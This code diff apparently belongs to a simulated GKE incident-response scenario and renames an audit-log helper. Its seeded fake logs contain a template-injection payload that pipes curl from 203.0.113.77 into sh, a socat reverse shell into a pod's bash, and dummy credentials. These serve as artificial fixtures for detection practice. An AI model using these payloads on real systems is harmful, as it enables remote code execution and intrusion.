@@ -175,7 +175,8 @@ function containerLog(ns: string, podName: string, container: string, time: stri
   };
 }
 
-function audit(time: string, methodName: string, resourceName: string, principal: string, callerIp: string, userAgent: string, request?: Record<string, unknown>): SeedLogEntry {
+/** A Kubernetes admin-activity audit entry of the world's cluster, as GKE writes it. */
+export function auditEntry(time: string, methodName: string, resourceName: string, principal: string, callerIp: string, userAgent: string, request?: Record<string, unknown>): SeedLogEntry {
   return {
     logName: `projects/${PROJECT}/logs/cloudaudit.googleapis.com%2Factivity`,
     resource: { type: 'k8s_cluster', labels: { project_id: PROJECT, location: LOCATION, cluster_name: CLUSTER } },
@@ -226,7 +227,7 @@ export function seedAttack(world: World, eventTime: Date): Scenario {
     containerLog('shop', 'checkout-7d9fb6c5d4-x2lqp', 'checkout', at(t, -130), 'POST /api/v1/import 500 template render failed: ${T(java.lang.Runtime).getRuntime().exec("sh -c curl -fsSL http://203.0.113.77/s|sh")}', 'ERROR'),
     containerLog('shop', 'checkout-7d9fb6c5d4-x2lqp', 'checkout', at(t, -129), 'retrying upstream with header Authorization: Bearer ya29.a0AfH6SMBx3kQ9demoTokenValue0123456789abcdefghij', 'WARNING'),
     containerLog('shop', 'checkout-7d9fb6c5d4-x2lqp', 'checkout', at(t, -20), 'GET /healthz 200 1ms'),
-    audit(at(t, -1500), 'io.k8s.core.v1.pods.create', 'core/v1/namespaces/shop/pods/checkout-7d9fb6c5d4-x2lqp', 'system:serviceaccount:kube-system:replicaset-controller', '172.16.0.34', 'kube-controller-manager/v1.33.5'),
+    auditEntry(at(t, -1500), 'io.k8s.core.v1.pods.create', 'core/v1/namespaces/shop/pods/checkout-7d9fb6c5d4-x2lqp', 'system:serviceaccount:kube-system:replicaset-controller', '172.16.0.34', 'kube-controller-manager/v1.33.5'),
     nodeLog('4820981273410973451', at(t, -60), 'kernel: audit: type=1400 apparmor="DENIED" operation="exec" profile="cri-containerd.apparmor.d" name="/usr/bin/socat"'),
     nodeLog('4820981273410973451', at(t, 30), 'google_guest_agent: Updating keys for user gke-4c7e.'),
   ]);
@@ -243,7 +244,7 @@ export function seedAdmin(world: World, eventTime: Date): Scenario {
   world.logging.seed([
     containerLog('payments', 'ledger-6f8b9c7d5-p4k2m', 'ledger', at(t, -400), 'ledger reconciliation run 4411 finished in 812ms'),
     containerLog('payments', 'ledger-6f8b9c7d5-p4k2m', 'ledger', at(t, -90), 'db pool: connection to postgres://ledger:hunter2-not-real@10.20.4.17:5432/ledger timed out'),
-    audit(at(t, -45), 'io.k8s.core.v1.pods.exec.create', `${execResource}?command=socat&command=TCP%3A10.128.0.15%3A9001&command=EXEC%3A%2Fbin%2Fbash%2Cpty%2Cstderr&container=ledger&stdin=true&stdout=true&tty=true`, ADMIN_PRINCIPAL, '198.51.100.23', 'kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0'),
+    auditEntry(at(t, -45), 'io.k8s.core.v1.pods.exec.create', `${execResource}?command=socat&command=TCP%3A10.128.0.15%3A9001&command=EXEC%3A%2Fbin%2Fbash%2Cpty%2Cstderr&container=ledger&stdin=true&stdout=true&tty=true`, ADMIN_PRINCIPAL, '198.51.100.23', 'kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0'),
     nodeLog('4820981273410988812', at(t, -10), 'systemd[1]: Started cri-containerd-5f1c.scope.'),
   ]);
   return { notification, findingName: notification.finding.name };
